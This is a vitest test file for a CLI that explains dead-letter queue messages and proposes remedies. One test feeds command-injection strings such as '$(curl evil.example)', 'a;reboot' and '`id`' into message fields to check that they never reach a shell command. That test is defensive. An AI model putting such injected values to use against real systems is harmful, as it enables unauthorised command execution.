import { describe, expect, it } from 'vitest';
import { notRegistered } from '#functions/record-events/messages.ts';
import { type DeadMessage, explainMessage } from '#local/cli/deployment/dead-message.ts';
import {
  changeOf,
  END_OF_LISTING,
  eventFor,
  eventsOf,
  HEARTBEAT,
  LETTER_REMEDIES,
  NEWER_MESSAGE,
  ofCluster,
  orDiscard,
  REASONS,
  REGISTER,
  registerCommand,
  topicTitle,
  unreadableEvents,
  WORK,
  withMore,
  writingOf,
} from '#local/cli/deployment/letter-messages.ts';
import { encodeDirty, encodeHint } from '#shared/messages/dirty.ts';
import { encodeNotification, type NotificationMessage } from '#shared/messages/notification.ts';
import type { RedrivableQueue, Redriver } from '#shared/messages/redrive.ts';
import { encodeRedriven } from '#shared/messages/redriven.ts';
import { eventsBody, FORWARDER, letterBody, WEB } from './dead-letter-messages.ts';

const OWN = { principal: 'AIDAOPERATOR', recorder: 'AROARECORDER' };
const RECORDER = 'AROARECORDER:starfold-prod-record-events';
const EVENTS = eventsOf(
  3,
  'wec/cluster1',
  `deployments.apps shop/web, ${END_OF_LISTING}, ${HEARTBEAT}`,
);

function explain(
  queue: RedrivableQueue,
  body: string,
  { senderId = FORWARDER, redriver = OWN }: { senderId?: string; redriver?: Redriver } = {},
): DeadMessage {
  return explainMessage(
    queue,
    { messageId: 'm', receiptHandle: 'r', body, senderId, receiveCount: 1, sentAt: 0 },
    redriver,
  );
}

describe('explainMessage', () => {
  it('names sources and objects of events whose handling failed, and their sender', () => {
    const found = explain('events', eventsBody());
    expect(found).toMatchObject({ kind: 'failed', about: EVENTS, sender: FORWARDER });
    expect(found.reasons).toEqual([REASONS.failed('record-events')]);
    expect(found.remedy).toBe(LETTER_REMEDIES.failed);
    expect(found.redrive.type).toBe('send');
  });

  it('names the first sender of events that had been redriven before', () => {
    const body = encodeRedriven({ senderId: 'AROAFIRST:x', body: eventsBody() }) ?? '';
    expect(explain('events', body, { senderId: 'AIDAOPERATOR' })).toMatchObject({
      kind: 'failed',
      about: EVENTS,
      sender: 'AROAFIRST:x',
    });
  });

  it('names the sender of a letter about a forged sender, and how to register it', () => {
    const found = explain('events', letterBody({}), { senderId: RECORDER });
    expect(found).toMatchObject({
      kind: 'forged-sender',
      about: EVENTS,
      sender: FORWARDER,
      reasons: [notRegistered('AROAFORWARDER', 'wec/cluster1')],
    });
    const register = registerCommand('wec/cluster1', 'AROAFORWARDER');
    expect(found.remedy).toBe(orDiscard(LETTER_REMEDIES.forgedSender(register), 'm'));
    expect(found.redrive.type).toBe('send');
  });

  it('says which receiver does not accept an event and why, or what nobody could be notified of', () => {
    const topic = { type: 'silence', wec: 'wec1' } as const;
    const event = { id: 'i' };
    const delivery = { type: 'delivery', topic, receiver: 'chat', revision: 1, event } as const;
    const refused = 'receiver chat: it answers 400';
    const silence = topicTitle('silence', 'wec/wec1', 'wec1');
    const about = eventFor('chat', silence);
    const body = (message: NotificationMessage) => encodeNotification(message, '').body;
    expect(explain('notifications', body({ ...delivery, refused }))).toMatchObject({
      ...{ kind: 'refused', about, reasons: [refused] },
      redrive: { type: 'send' },
    });
    const failed = explain('notifications', body(delivery));
    expect(failed).toMatchObject({ kind: 'failed', about });
    expect(failed.reasons).toEqual([REASONS.failed('send-notifications')]);
    expect(explain('notifications', body({ type: 'change', topic, before: 'x' }))).toMatchObject({
      ...{ kind: 'failed', about: changeOf(silence) },
    });
    expect(explain('notifications', '{}')).toMatchObject({
      ...{ kind: 'unreadable', redrive: { type: 'stay' } },
    });
  });

  it('gives the remedy of a letter about a quota', () => {
    const reasons = ['wec/cluster1 has reached its quota of 3 objects'];
    const body = letterBody({ code: 'over-quota', reasons });
    const found = explain('events', body, { senderId: RECORDER });
    expect(found).toMatchObject({ kind: 'over-quota', about: EVENTS, reasons });
    expect(found.remedy).toBe(orDiscard(LETTER_REMEDIES.overQuota, 'm'));
    expect(found.redrive.type).toBe('send');
  });

  it.each(['$(curl evil.example)', 'a;reboot', 'a b', 'a\u202eb', '`id`', "a'b"])(
    'puts no name into a command that a shell might act on: %s',
    (name) => {
      const [first]: readonly Record<string, unknown>[] = JSON.parse(eventsBody());
      const body = JSON.stringify([{ ...first, source: `/wec/${name}` }]);
      const letter = letterBody({ body, senderId: `${name}:session` });
      const { remedy } = explain('events', letter, { senderId: RECORDER });
      expect(remedy).toContain(LETTER_REMEDIES.forgedSender(REGISTER));
      expect(remedy).not.toContain(name);
      const stranger = letterBody({ senderId: `${name}:session` });
      const other = explain('events', stranger, { senderId: RECORDER });
      const register = registerCommand('wec/cluster1', 'ID');
      expect(other.remedy).toContain(LETTER_REMEDIES.forgedSender(register));
    },
  );

  it('leaves to the operator which of several sources he means', () => {
    const batch: readonly Record<string, unknown>[] = JSON.parse(eventsBody());
    const other = { ...batch[2], source: '/wec/cluster2' };
    const body = letterBody({ body: JSON.stringify([...batch, other]) });
    const found = explain('events', body, { senderId: RECORDER });
    expect(found.remedy).toContain(LETTER_REMEDIES.forgedSender(REGISTER));
  });

  it('gives the errors of a letter about unreadable events', () => {
    const reasons = ['event 1.2: time: missing'];
    const body = letterBody({ code: 'unreadable', reasons, body: '[{}, {}]' });
    const found = explain('events', body, { senderId: RECORDER });
    expect(found).toMatchObject({
      kind: 'unreadable',
      about: unreadableEvents(2),
      reasons,
    });
    expect(found.remedy).toBe(orDiscard(LETTER_REMEDIES.unreadable, 'm'));
  });

  it.each([
    ['written by somebody else', FORWARDER, OWN],
    ['when it is not known who record-events is', RECORDER, { principal: 'AIDAOPERATOR' }],
  ])('believes nothing of a letter %s', (_name, senderId, redriver) => {
    const found = explain('events', letterBody({}), { senderId, redriver });
    expect(found).toMatchObject({
      ...{ kind: 'foreign', sender: senderId, reasons: [REASONS.foreign] },
      remedy: orDiscard(LETTER_REMEDIES.foreign, 'm'),
    });
    expect(found.redrive).toEqual({ type: 'stay', why: 'letter' });
    expect(JSON.stringify(found)).not.toContain('cluster1');
  });

  it.each<[RedrivableQueue, string]>([
    ['events', 'hello'],
    ['events', '[{}]'],
    ['dirty', '{}'],
    ['hints', 'hello'],
  ])('says that nothing can be read of another text in %s: %s', (queue, body) => {
    const found = explain(queue, body);
    expect(found).toMatchObject({ kind: 'unreadable', reasons: [REASONS.unreadable] });
    expect(found.redrive).toEqual({ type: 'stay', why: 'unreadable' });
    expect(found.remedy).toBe(LETTER_REMEDIES.noMessage);
  });

  it.each<[RedrivableQueue, string]>([
    ['dirty', encodeDirty({ type: 'subject', subject: WEB }, '').body],
    ['hints', encodeHint({ subject: WEB, objects: [] }, '').body],
  ])('keeps what a newer release has sent to %s', (queue, body) => {
    const found = explain(queue, JSON.stringify({ ...JSON.parse(body), messageVersion: 2 }));
    expect(found).toMatchObject({ kind: 'newer', about: NEWER_MESSAGE });
    expect(found.reasons.join()).toContain('deploy that release everywhere');
    expect(found.redrive).toEqual({ type: 'stay', why: 'newer' });
    expect(found.remedy).toBe(LETTER_REMEDIES.newer);
  });

  it.each([
    [
      encodeDirty({ type: 'subject', subject: WEB }, ''),
      WORK.aggregation(ofCluster('deployments.apps shop/web', 'wds1')),
    ],
    [
      encodeDirty({ type: 'members', wds: 'wds1', binding: 'b', revision: 1, cursor: '' }, ''),
      WORK.members('b', 'wds1'),
    ],
    [
      encodeDirty(
        { type: 'sweep', source: { type: 'wec', name: 'a' }, since: { epoch: 1, sequence: 1 } },
        '',
      ),
      WORK.sweep('wec/a'),
    ],
  ])('names the work of aggregate-workload', ({ body }, about) => {
    expect(explain('dirty', body)).toMatchObject({ kind: 'failed', about });
  });

  it.each([
    [WEB, writingOf(ofCluster('deployments.apps shop/web', 'wds1'))],
    [
      { type: 'binding', wds: 'wds1', name: 'b' } as const,
      writingOf(ofCluster('Binding b', 'wds1')),
    ],
    [
      { type: 'collector', wds: 'wds1', name: 'c' } as const,
      writingOf(ofCluster('StatusCollector c', 'wds1')),
    ],
  ])('names the work of write-results', (subject, about) => {
    const { body } = encodeHint({ subject, objects: [] }, '');
    expect(explain('hints', body)).toMatchObject({ kind: 'failed', about });
  });

  it('names the first three of many', () => {
    const batch: readonly Record<string, unknown>[] = JSON.parse(eventsBody());
    const [first, ...others] = batch;
    const more = ['a', 'b', 'c', 'd'].map((name) => ({
      ...first,
      subject: `wds1/apps/deployments/shop/${name}`,
    }));
    const { about } = explain('events', JSON.stringify([...more, ...others]));
    const named = ['a', 'b', 'c'].map((name) => `deployments.apps shop/${name}`).join(', ');
    expect(about).toBe(eventsOf(6, 'wec/cluster1', withMore(named, 3)));
  });
});
